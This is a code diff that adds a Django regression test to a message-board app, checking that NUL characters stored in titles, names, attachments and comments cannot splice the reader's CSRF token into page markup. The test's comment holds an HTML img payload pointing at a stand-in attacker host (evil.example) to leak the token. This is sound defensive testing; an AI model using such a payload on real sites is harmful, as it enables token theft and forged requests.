@@ -6,9 +6,11 @@ from __future__ import annotations
 import re
 
 import pytest
+from django.db import connection
 from django_scopes import scopes_disabled
 
-from tsunagu.boards.models import Comment
+from tsunagu.accounts.models import User
+from tsunagu.boards.models import Attachment, Category, Comment
 from tsunagu.core.testing.boards import add_comments, make_thread
 from tsunagu.core.testing.world import World
 
@@ -85,3 +87,34 @@ def test_a_hidden_comment_stays_hidden_from_members_while_operators_see_it(world
     assert "不適切な書き込み" not in page(world, world.alumni_a, thread.pk)
     assert "不適切な書き込み" in page(world, world.operator_a, thread.pk)
     assert "不適切な書き込み" not in page(world, world.alumni_a, thread.pk)
+
+
+EVIL = "https://evil.example/?t="
+
+
+def test_text_with_a_nul_stored_by_another_path_cannot_fill_a_readers_hole(world: World) -> None:
+    if connection.vendor == "postgresql":
+        pytest.skip("PostgreSQL cannot store a NUL: the case is a database that can (SQLite)")
+    thread = make_thread(world.alumni_a, title="見出し\x00unread\x00")
+    # A comment whose HTML would send the reader's CSRF token away, by an author whose name
+    # would pull in the comment form, with a file named after the follow button.
+    add_comments(thread, [world.alumni_a], 1, text=f'<img src="{EVIL}\x00csrf\x00">')
+    with scopes_disabled():
+        User.objects.filter(pk=world.alumni_a.user_id).update(name="花子\x00form\x00")
+        Category.objects.filter(pk=thread.category_id).update(name="分類\x00poll\x00")
+        comment = Comment.objects.get(thread=thread)
+        Attachment.objects.create(
+            network=world.net_a, thread=thread, comment=comment, uploader=world.alumni_a,
+            name="資料\x00follow\x00.pdf", content_type="application/pdf", size=1, file="x",
+        )  # fmt: skip
+
+    html = page(world, world.employee_a, thread.pk)
+
+    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html).group(1)
+    assert f"{EVIL}{token}" not in html
+    assert f'src="{EVIL}\ufffdcsrf\ufffd"' in html
+    assert "花子\ufffdform\ufffd" in html and "資料\ufffdfollow\ufffd.pdf" in html
+    assert "見出し\ufffdunread\ufffd" in html and "分類\ufffdpoll\ufffd" in html
+    assert html.count('id="comment-form"') == 1
+    shared = html[html.index('<article class="card thread">') : html.index('id="comment-form"')]
+    assert "\x00" not in shared
